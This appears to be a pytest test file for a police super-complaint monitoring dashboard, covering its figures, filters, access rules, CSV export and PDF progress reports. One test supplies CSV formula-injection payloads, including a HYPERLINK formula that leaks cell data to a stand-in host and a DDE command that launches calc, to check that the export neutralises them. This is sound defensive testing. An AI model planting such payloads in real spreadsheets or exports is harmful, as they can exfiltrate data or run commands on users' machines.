"""The monitoring dashboard across complaints, its CSV export and the progress-report PDFs."""

import csv
import io
import re
from datetime import date, datetime

import pytest
import time_machine
from pypdf import PdfReader

from accounts.models import OrganisationKind
from investigations.models import Investigation
from recommendations import services as response_services
from recommendations.models import RecommendationResponse
from recommendations.progress import elapsed_label
from tests.factories import (
    MET,
    MOPAC,
    investigation_in,
    org,
    published_report,
    response_in,
)
from workflow.deadlines import LONDON

R = RecommendationResponse.State
PUBLISHED_AT = datetime(2026, 1, 15, 10, 0, tzinfo=LONDON)
# Responses are due 56 days after publication, on 12 March 2026: by 1 April those not made are late.
TODAY = datetime(2026, 4, 1, 9, 0, tzinfo=LONDON)


def at(moment):
    return time_machine.travel(moment, tick=False)


def responses_of(investigation):
    """{(recommendation number, organisation slug): response}"""
    return {
        (r.recommendation.number, r.organisation.slug): r
        for r in RecommendationResponse.objects.filter(
            recommendation__investigation=investigation
        ).select_related("recommendation", "organisation")
    }


@pytest.fixture
def known(team, met_recipient, mopac_recipient, hmicfrs_monitor):
    """Two recommendations to the Met and MOPAC, published on 15 January 2026. Recommendation 1:
    the Met responds after 10 days and its implementation is verified 40 days after that; MOPAC
    responds after 20 days and starts work. Recommendation 2: nobody has responded."""
    with at(PUBLISHED_AT):
        investigation = published_report(team, recommendations=2)
    responses = responses_of(investigation)
    met_1, mopac_1 = responses[(1, MET)], responses[(1, MOPAC)]
    with at(datetime(2026, 1, 25, 11, 0, tzinfo=LONDON)):
        response_in(met_1, R.RESPONSE_PUBLISHED, recipient=met_recipient)
    with at(datetime(2026, 2, 4, 11, 0, tzinfo=LONDON)):
        response_in(mopac_1, R.IN_PROGRESS, recipient=mopac_recipient)
    with at(datetime(2026, 2, 10, 11, 0, tzinfo=LONDON)):
        response_services.start_work(met_1, by=met_recipient)
        response_services.report_implementation(
            met_1, by=met_recipient, summary="Every referral is now recorded."
        )
    with at(datetime(2026, 3, 6, 11, 0, tzinfo=LONDON)):
        response_services.verify(met_1, by=hmicfrs_monitor)
    return investigation


def rows_by_label(rows):
    return {row.rollup.label: row.rollup for row in rows}


def test_headline_figures_count_states_rate_overdue_and_medians(
    client, known, hmicfrs_monitor
):
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        response = client.get("/monitoring/")

    assert response.status_code == 200
    overall = response.context["overall"]
    assert {c.state: c.count for c in overall.state_counts()} == {
        R.AWAITING_RESPONSE: 2,
        R.RESPONSE_PUBLISHED: 0,
        R.IN_PROGRESS: 1,
        R.IMPLEMENTATION_REPORTED: 0,
        R.VERIFIED: 1,
    }
    assert dict(response.context["headline"]) == {
        "Responses": "4",
        "Response rate": "50%",
        "Overdue": "2",
        "Median days from issue to published response": "15",
        "Median days from response to verified implementation": "40",
    }


def test_rollups_by_recommendation_report_and_organisation(
    client, known, hmicfrs_monitor
):
    client.force_login(hmicfrs_monitor)
    ref = known.complaint.reference

    with at(TODAY):
        response = client.get("/monitoring/")

    by_recommendation = rows_by_label(response.context["recommendation_rows"])
    first = by_recommendation[f"{ref} recommendation 1"]
    second = by_recommendation[f"{ref} recommendation 2"]
    assert (first.counts[R.VERIFIED], first.counts[R.IN_PROGRESS], first.total) == (
        1,
        1,
        2,
    )
    assert (first.response_rate_percent, first.overdue) == (100, 0)
    assert (first.median_days_to_response, first.median_days_to_verification) == (
        15,
        40,
    )
    assert (
        second.counts[R.AWAITING_RESPONSE],
        second.response_rate_percent,
        second.overdue,
    ) == (2, 0, 2)
    assert (second.median_days_to_response, second.median_days_to_verification) == (
        None,
        None,
    )
    assert first.since_publication == "2 months since publication"

    by_report = rows_by_label(response.context["report_rows"])
    assert list(by_report) == ["The hidden victims"]
    assert by_report["The hidden victims"].total == 4

    by_organisation = rows_by_label(response.context["organisation_rows"])
    met = by_organisation["Metropolitan Police Service"]
    assert (met.total, met.responded, met.overdue, met.median_days_to_response) == (
        2,
        1,
        1,
        10,
    )
    mopac = by_organisation[org(MOPAC).name]
    assert (
        mopac.total,
        mopac.responded,
        mopac.overdue,
        mopac.median_days_to_response,
    ) == (2, 1, 1, 20)


def test_nothing_is_overdue_before_the_due_date(client, known, hmicfrs_monitor):
    client.force_login(hmicfrs_monitor)

    with at(datetime(2026, 3, 12, 17, 0, tzinfo=LONDON)):
        response = client.get("/monitoring/")

    assert response.context["overall"].overdue == 0


def test_overdue_excludes_a_response_awaiting_an_extension_decision(
    client, known, hmicfrs_monitor
):
    late = responses_of(known)[(2, MET)]
    RecommendationResponse.objects.filter(pk=late.pk).update(extension_pending=True)
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        response = client.get("/monitoring/")

    assert response.context["overall"].overdue == 1


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("state=verified", {(1, MET)}),
        ("overdue=on", {(2, MET), (2, MOPAC)}),
        ("kind=local_policing_body", {(1, MOPAC), (2, MOPAC)}),
        ("organisation={met}", {(1, MET), (2, MET)}),
        ("recommendation={rec1}", {(1, MET), (1, MOPAC)}),
        ("organisation={met}&state=awaiting_response", {(2, MET)}),
    ],
)
def test_filters_narrow_the_dashboard(client, known, hmicfrs_monitor, query, expected):
    responses = responses_of(known)
    query = query.format(met=org(MET).pk, rec1=responses[(1, MET)].recommendation_id)
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        response = client.get(f"/monitoring/?{query}")

    shown = {
        (r.recommendation.number, r.organisation.slug)
        for r in response.context["responses"]
    }
    assert shown == expected
    assert response.context["overall"].total == len(expected)


def test_complaint_filter_and_drill_down_links(client, team, hmicfrs_monitor):
    published_report(team)
    second = published_report(team, "kent-police")
    client.force_login(hmicfrs_monitor)

    response = client.get(f"/monitoring/?complaint={second.pk}")

    assert {r.organisation.slug for r in response.context["responses"]} == {
        "kent-police"
    }
    assert [row.rollup.key for row in response.context["report_rows"]] == [second.pk]
    kent = org("kent-police")
    recommendation = second.recommendations.get()
    assert [row.link for row in response.context["organisation_rows"]] == [
        f"?complaint={second.pk}&organisation={kent.pk}"
    ]
    assert [row.link for row in response.context["recommendation_rows"]] == [
        f"?complaint={second.pk}&recommendation={recommendation.pk}"
    ]


def test_an_unknown_filter_value_is_reported_not_obeyed(client, known, hmicfrs_monitor):
    client.force_login(hmicfrs_monitor)

    response = client.get("/monitoring/?state=lost")

    assert response.context["overall"].total == 4
    assert "Select a valid choice" in response.content.decode()


@pytest.mark.parametrize(
    "url",
    [
        "/monitoring/",
        "/monitoring/export.csv",
        "/monitoring/complaint/{inv}.pdf",
        "/monitoring/organisation/{met}.pdf",
    ],
)
def test_recipients_cannot_open_the_monitoring_pages(client, team, met_recipient, url):
    investigation = published_report(team)
    client.force_login(met_recipient)

    response = client.get(url.format(inv=investigation.pk, met=org(MET).pk))

    assert response.status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get("/monitoring/")

    assert response.status_code == 302
    assert response["Location"].startswith("/sign-in/")


def test_designated_body_sees_only_its_own_complaints(
    client, two_bodies_complaints, hestia_member
):
    hestia, cwj = two_bodies_complaints
    client.force_login(hestia_member)

    response = client.get("/monitoring/")

    assert response.status_code == 200
    assert {
        r.recommendation.investigation_id for r in response.context["responses"]
    } == {hestia.pk}
    assert [i.pk for i in response.context["form"].fields["complaint"].queryset] == [
        hestia.pk
    ]
    assert "Kent Police" not in response.content.decode()
    assert cwj.complaint.reference not in response.content.decode()


def test_designated_body_cannot_filter_its_way_into_another_complaint(
    client, two_bodies_complaints, hestia_member
):
    _hestia, cwj = two_bodies_complaints
    client.force_login(hestia_member)

    response = client.get(f"/monitoring/?complaint={cwj.pk}")
    csv_response = client.get(
        f"/monitoring/export.csv?recommendation={cwj.recommendations.get().pk}"
    )

    assert cwj.complaint.reference not in response.content.decode()
    assert len(read_csv(csv_response)) == 1  # the header alone


def test_designated_body_gets_404_for_another_bodys_progress_reports(
    client, two_bodies_complaints, cwj_member
):
    hestia, cwj = two_bodies_complaints
    client.force_login(cwj_member)

    assert client.get(f"/monitoring/complaint/{hestia.pk}.pdf").status_code == 404
    assert client.get(f"/monitoring/organisation/{org(MET).pk}.pdf").status_code == 404
    assert client.get(f"/monitoring/complaint/{cwj.pk}.pdf").status_code == 200
    assert (
        client.get(f"/monitoring/organisation/{org('kent-police').pk}.pdf").status_code
        == 200
    )


def test_other_monitors_and_authority_staff_see_every_complaint(
    client, two_bodies_complaints, commissioner_monitor, iopc_investigator
):
    for user in (commissioner_monitor, iopc_investigator):
        client.force_login(user)

        response = client.get("/monitoring/")

        assert response.context["overall"].total == 3


def recommendation_row(html, recommendation):
    """The row of the table by recommendation for `recommendation`."""
    row = re.search(
        rf'<tr class="govuk-table__row"><th scope="row" class="govuk-table__header">'
        rf'<a class="govuk-link" href="\?recommendation={recommendation.pk}">.*?</tr>',
        html,
        re.S,
    )
    assert row is not None
    return row.group(0)


def test_charts_are_accessible_svg_beside_tables(client, known, hmicfrs_monitor):
    """The headline chart is an image with its figures in words; the small bars in the rows sit
    beside cells giving the same figures, so they are hidden from assistive technology rather
    than read out a second time."""
    rec1 = responses_of(known)[(1, MET)].recommendation
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        html = client.get("/monitoring/").content.decode()

    assert (
        'role="img" width="560" height="170" viewBox="0 0 560 170" '
        'aria-labelledby="monitoring-overall-title monitoring-overall-desc"'
    ) in html
    assert '<title id="monitoring-overall-title">Responses by status</title>' in html
    assert (
        '<desc id="monitoring-overall-desc">4 responses. Awaiting response: 2 (50%); '
        "In progress: 1 (25%); Verified (closed): 1 (25%).</desc>"
    ) in html
    assert 'id="counts-by-state"' in html

    row = recommendation_row(html, rec1)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
    # Awaiting, published, in progress, reported, verified; rate, overdue, the two medians.
    assert cells[:9] == ["0", "0", "1", "0", "1", "100%", "0", "15", "40"]
    bars = re.findall(r"<svg [^>]*>", row)
    assert bars == [
        '<svg class="app-chart" aria-hidden="true" focusable="false" '
        'width="180" height="24" viewBox="0 0 180 24">',
        '<svg class="app-chart" aria-hidden="true" focusable="false" '
        'width="160" height="12" viewBox="0 0 160 12">',
    ]
    assert "<title" not in row
    assert "<desc" not in row
    assert '<span class="govuk-body-s">2 months since publication</span>' in row
    assert "<script" not in html.split("</main>")[0]


def test_charts_fill_with_one_set_of_patterns_for_the_page(
    client, known, hmicfrs_monitor
):
    """The state patterns are defined once for the page, not in every chart, and each state still
    has its own fill (colour is not the only cue), without any inline style."""
    rec1 = responses_of(known)[(1, MET)].recommendation
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        html = client.get("/monitoring/").content.decode()

    assert html.count("<defs>") == 1
    patterns = dict(
        re.findall(r'<pattern id="([^"]+)"[^>]*>(.*?)</pattern>', html, re.S)
    )
    assert sorted(patterns) == [
        "pattern-implementation_reported",
        "pattern-in_progress",
        "pattern-response_published",
    ]
    assert len(set(patterns.values())) == 3
    assert set(re.findall(r'fill="url\(#([^)]+)\)"', html)) <= set(patterns)
    bar = re.search(r"<svg .*?</svg>", recommendation_row(html, rec1))
    assert bar is not None
    assert 'fill="url(#pattern-in_progress)"' in bar.group(0)
    legend = re.search(r'<ul class="govuk-list app-chart-legend">(.*?)</ul>', html)
    assert legend is not None
    fills = re.findall(
        r'<rect width="16" height="16" fill="([^"]+)"/>', legend.group(1)
    )
    assert len(fills) == len(R.choices) == len(set(fills))
    assert " style=" not in html
    assert "<style" not in html


def test_grid_cells_link_to_responses_with_a_text_label(client, known, hmicfrs_monitor):
    late = responses_of(known)[(2, MET)]
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        html = client.get("/monitoring/").content.decode()

    cell = re.search(
        rf'<a class="govuk-link" href="/responses/{late.pk}/">(.*?)</a>', html, re.S
    )
    assert cell is not None
    assert (
        '<span class="govuk-visually-hidden">AR: Awaiting response, overdue '
        f"(Metropolitan Police Service, {known.complaint.reference} recommendation 2)</span>"
    ) in cell.group(1)
    assert 'aria-hidden="true"' in cell.group(1)
    assert ">AR!</text>" in cell.group(1)


def test_time_since_publication_reads_in_years_and_months():
    assert elapsed_label(date(2025, 1, 15), date(2026, 4, 20)) == "1 year 3 months"
    assert elapsed_label(date(2025, 1, 15), date(2026, 4, 14)) == "1 year 2 months"
    assert elapsed_label(date(2024, 1, 31), date(2026, 1, 31)) == "2 years"
    assert elapsed_label(date(2026, 1, 15), date(2026, 1, 27)) == "12 days"


def read_csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_lists_every_visible_response_with_dates(client, known, hmicfrs_monitor):
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        rows = read_csv(client.get("/monitoring/export.csv"))

    header, *body = rows
    assert header[:3] == ["Complaint reference", "Report title", "Recommendation"]
    by_key = {(row[2], row[4]): dict(zip(header, row, strict=True)) for row in body}
    assert len(body) == 4
    met_1 = by_key[("1", "Metropolitan Police Service")]
    assert met_1 == {
        "Complaint reference": known.complaint.reference,
        "Report title": "The hidden victims",
        "Recommendation": "1",
        "Recommendation text": "Recommendation 1: record every referral.",
        "Organisation": "Metropolitan Police Service",
        "Kind of organisation": "Police force",
        "Status": "Verified (closed)",
        "Outcome": "Accepted",
        "Response": "We accept it and will train every officer by March.",
        "Issued": "2026-01-15",
        "Due": "2026-03-12",
        "Originally due": "2026-03-12",
        "Response published": "2026-01-25",
        "Work started": "2026-02-10",
        "Implementation reported": "2026-02-10",
        "Verified": "2026-03-06",
        "Overdue": "no",
    }
    assert by_key[("2", "Metropolitan Police Service")]["Overdue"] == "yes"


def test_csv_respects_the_filters(client, known, hmicfrs_monitor):
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        rows = read_csv(client.get("/monitoring/export.csv?overdue=on"))

    assert [(row[2], row[4]) for row in rows[1:]] == sorted(
        [("2", org(MET).name), ("2", org(MOPAC).name)]
    )


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+SUM(1,2)",
        "-2+3",
        "@cmd|' /C calc'!A0",
    ],
)
def test_csv_neutralises_formulas_in_recommendation_and_response_text(
    client, team, met_recipient, mopac_recipient, hmicfrs_monitor, text
):
    investigation = investigation_in(
        Investigation.State.PUBLISHED,
        team,
        recommendations=[
            {
                "text": text,
                "recipient_kinds": [],
                "named_recipients": [org(MET), org(MOPAC)],
            }
        ],
    )
    responses = responses_of(investigation)
    response_in(
        responses[(1, MET)], R.RESPONSE_PUBLISHED, recipient=met_recipient, text=text
    )
    # A draft that was never published stays the recipient's own.
    response_services.save_response_draft(
        responses[(1, MOPAC)],
        by=mopac_recipient,
        outcome="accepted",
        text="Draft only",
        expected_version=1,
    )
    client.force_login(hmicfrs_monitor)

    header, *body = read_csv(client.get("/monitoring/export.csv"))

    rows = {row[4]: dict(zip(header, row, strict=True)) for row in body}
    met, mopac = rows[org(MET).name], rows[org(MOPAC).name]
    assert met["Recommendation text"] == "'" + text
    assert met["Response"] == "'" + text
    assert mopac["Response"] == ""


def pdf_text(response):
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    # Table cells wrap: compare words, not line breaks.
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def test_complaint_progress_report_pdf(client, known, hmicfrs_monitor):
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        response = client.get(f"/monitoring/complaint/{known.pk}.pdf")

    text = pdf_text(response)
    assert response.status_code == 200
    for expected in (
        "Progress on recommendations",
        "The hidden victims",
        f"Super-complaint {known.complaint.reference} by Hestia",
        "Position on 1 April 2026",
        "Response rate",
        "50%",
        "Status of each recommendation",
        "Recommendation 2",
        "Metropolitan Police Service",
        "Verified (closed)",
        "6 Mar 2026",
        "Page 1 of",
    ):
        assert expected in text, expected


def test_organisation_progress_report_pdf(client, known, team, hmicfrs_monitor):
    published_report(team, MET, "kent-police")
    client.force_login(hmicfrs_monitor)

    with at(TODAY):
        response = client.get(f"/monitoring/organisation/{org(MET).pk}.pdf")

    text = pdf_text(response)
    assert "Metropolitan Police Service" in text
    assert "Responses to super-complaint recommendations" in text
    assert "Status by super-complaint" in text
    assert f"{known.complaint.reference}: The hidden victims" in text
    assert "Recommendation 1: record every referral." in text
    assert "Kent Police" not in text


def test_progress_reports_404_for_what_does_not_exist(client, hmicfrs_monitor, team):
    unpublished = investigation_in(Investigation.State.SCOPING)
    client.force_login(hmicfrs_monitor)

    assert client.get(f"/monitoring/complaint/{unpublished.pk}.pdf").status_code == 404
    assert client.get("/monitoring/organisation/999999.pdf").status_code == 404
    assert (
        client.get(f"/monitoring/organisation/{org('kent-police').pk}.pdf").status_code
        == 404
    )


@pytest.mark.parametrize("item_count", [1, 3])
def test_dashboard_queries_do_not_grow_with_the_data(
    client, team, met_recipient, hmicfrs_monitor, django_assert_num_queries, item_count
):
    for _ in range(item_count):
        investigation = published_report(
            team, MET, MOPAC, "kent-police", recommendations=2
        )
        response_in(
            responses_of(investigation)[(1, MET)],
            R.IN_PROGRESS,
            recipient=met_recipient,
        )
    client.force_login(hmicfrs_monitor)

    # Five of them count the figures in the database (overall, by report, by organisation); two
    # read the data version of the derived-content cache (off in tests: the page is worked out).
    with django_assert_num_queries(12):
        response = client.get("/monitoring/")

    assert response.context["overall"].total == item_count * 6
    assert len(response.context["grid"]["columns"]) == item_count * 2


@pytest.mark.parametrize("item_count", [1, 3])
def test_csv_and_pdf_queries_do_not_grow_with_the_data(
    client, team, hmicfrs_monitor, django_assert_num_queries, item_count
):
    for _ in range(item_count):
        investigation = published_report(team, MET, "kent-police", recommendations=2)
    met = org(MET)
    client.force_login(hmicfrs_monitor)

    with django_assert_num_queries(3):
        rows = read_csv(client.get("/monitoring/export.csv"))
    with django_assert_num_queries(4):
        client.get(f"/monitoring/organisation/{met.pk}.pdf")
    with django_assert_num_queries(4):
        client.get(f"/monitoring/complaint/{investigation.pk}.pdf")

    assert len(rows) == 1 + item_count * 4


def test_kind_filter_offers_only_recipient_kinds(client, known, hmicfrs_monitor):
    client.force_login(hmicfrs_monitor)

    response = client.get("/monitoring/")

    assert [
        value for value, _label in response.context["form"].fields["kind"].choices
    ] == [
        "",
        OrganisationKind.POLICE_FORCE,
        OrganisationKind.LOCAL_POLICING_BODY,
        OrganisationKind.NATIONAL_BODY,
        OrganisationKind.COLLEGE,
    ]


def test_a_long_report_is_charted_across_pages(client, team, hmicfrs_monitor):
    investigation = published_report(team, MET, recommendations=30)
    client.force_login(hmicfrs_monitor)

    text = pdf_text(client.get(f"/monitoring/complaint/{investigation.pk}.pdf"))

    assert "Recommendation 30: record every referral." in text
